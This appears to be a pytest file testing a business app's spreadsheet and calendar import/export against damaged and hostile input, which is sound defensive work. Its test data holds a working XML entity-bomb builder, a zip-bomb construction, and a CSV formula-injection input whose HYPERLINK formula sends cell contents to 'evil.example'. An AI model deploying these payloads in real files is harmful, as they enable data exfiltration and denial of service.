"""Hostile and broken files at import and export: damaged or malicious spreadsheets give one
error naming the file, exports never hand a spreadsheet a live formula, and what an import
keeps in another form is said (issue 13)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from bullpen.app.interop.errors import InteropError
from bullpen.app.interop.opportunities import read_opportunities, write_opportunities
from bullpen.app.interop.transfer import import_calendar
from bullpen.app.workspace import Workspace

RECORD = {"account": "Acme", "title": "Renewal", "amount": 500.0, "stage": "proposal",
          "close_date": "2026-12-15"}


def workbook(tmp_path: Path, records: list[dict]) -> Path:
    path = tmp_path / "pipeline.xlsx"
    write_opportunities(path, records, "xlsx")
    return path


def rewrite_sheet(path: Path, change) -> None:
    """Replace the first sheet's XML of an .xlsx by ``change(xml)``."""
    with zipfile.ZipFile(path) as src:
        parts = {name: src.read(name) for name in src.namelist()}
    parts["xl/worksheets/sheet1.xml"] = change(parts["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)


def test_xlsx_whose_sheet_is_cut_in_half_is_one_error(tmp_path: Path) -> None:
    path = workbook(tmp_path, [RECORD] * 50)
    rewrite_sheet(path, lambda xml: xml[: len(xml) // 2])
    with pytest.raises(InteropError, match=r"pipeline\.xlsx: damaged XLSX sheet"):
        read_opportunities(path)


def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from bullpen.app.interop import guard as interop_guard

    monkeypatch.setattr(interop_guard, "MAX_XLSX_UNPACKED", 1 << 20)  # 256 MiB is slow to make
    path = workbook(tmp_path, [RECORD])
    rewrite_sheet(path, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (2 << 20)))
    assert path.stat().st_size < 100_000
    with pytest.raises(InteropError, match="unpacks to more than 1 MB"):
        read_opportunities(path)


def test_too_many_rows_or_bytes_are_refused(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from bullpen.app.interop import common as interop_common
    from bullpen.app.interop import opportunities as interop_opportunities

    path = tmp_path / "pipeline.csv"
    write_opportunities(path, [RECORD] * 11, "csv")
    monkeypatch.setattr(interop_opportunities, "MAX_ROWS", 10)
    with pytest.raises(InteropError, match="more than 10 rows"):
        read_opportunities(path)
    big = tmp_path / "big.csv"
    with big.open("wb") as f:
        f.truncate(interop_common.MAX_IMPORT_BYTES + 1)  # sparse: nothing written to disk
    with pytest.raises(InteropError, match="larger than 64 MB"):
        read_opportunities(big)


def test_xlsx_parsing_refuses_entity_bombs(tmp_path: Path) -> None:
    """openpyxl parses with defusedxml (a dependency) instead of expanding entities."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML
    path = workbook(tmp_path, [RECORD])
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(b'<!ENTITY lol%d "%s">' % (i + 1, (b"&lol%d;" % i if i else b"&lol;") * 10)
                       for i in range(9))
            + b"]>")
    rewrite_sheet(path, lambda xml: bomb + xml.replace(b"<v>", b"<v>&lol9;", 1))
    with pytest.raises(InteropError, match="EntitiesForbidden"):
        read_opportunities(path)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2",
                                  "-2+3", "@SUM(A1)", "\t=1", "'=already quoted"])
def test_csv_export_never_writes_a_live_formula(tmp_path: Path, text: str) -> None:
    path = tmp_path / "pipeline.csv"
    write_opportunities(path, [{**RECORD, "account": text}], "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[0]["account"] == "'" + text  # spreadsheets show it as text
    assert rows[0]["amount"] == "500.0"  # numbers stay numbers
    assert read_opportunities(path).rows[0][1]["account"] == text.strip()  # import undoes it


def test_plain_text_starting_with_a_quote_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "pipeline.csv"
    write_opportunities(path, [{**RECORD, "account": "'Tis Ltd"}], "csv")
    assert "'Tis Ltd" in path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert read_opportunities(path).rows[0][1]["account"] == "'Tis Ltd"


ICS = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//test//EN
BEGIN:VEVENT
UID:mars-1
DTSTART;TZID=Mars/Olympus:20261201T100000
DTEND;TZID=Mars/Olympus:20261201T110000
SUMMARY:Olympus review
END:VEVENT
BEGIN:VEVENT
UID:paris-1
DTSTART;TZID=Europe/Paris:20261201T100000
DTEND;TZID=Europe/Paris:20261201T110000
SUMMARY:Paris review
END:VEVENT
END:VCALENDAR
"""


def test_an_unknown_time_zone_on_import_is_reported(ws: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "team.ics"
    path.write_text(ICS)
    report = import_calendar(ws, path)
    assert report.notes == [f"{path}: event 1 (mars-1): unknown time zone 'Mars/Olympus': its "
                            f"times are kept as floating local times (no zone)"]
    assert report.notes[0] in report.summary() and report.to_json()["notes"] == report.notes
    assert len(ws.list("event")) == 2


@pytest.mark.parametrize(("line", "added"), [("DTSTART:20261201T100000Z", 1),
                                           ("DTEND:20261201T120000Z", 1),
                                           ("RECURRENCE-ID:20261201T100000Z", 2)])
def test_an_event_giving_a_time_twice_is_one_error(ws: Workspace, tmp_path: Path, line: str,
                                                   added: int) -> None:
    """Found by the import fuzz: icalendar hands a repeated property over as a list."""
    path = tmp_path / "team.ics"
    path.write_text(ICS.replace("SUMMARY:Paris review",
                                "\n".join(["SUMMARY:Paris review"] + [line] * added)))
    with pytest.raises(InteropError, match=f"{line.split(':')[0]} is given 2 times"):
        import_calendar(ws, path)
    assert ws.list("event") == []
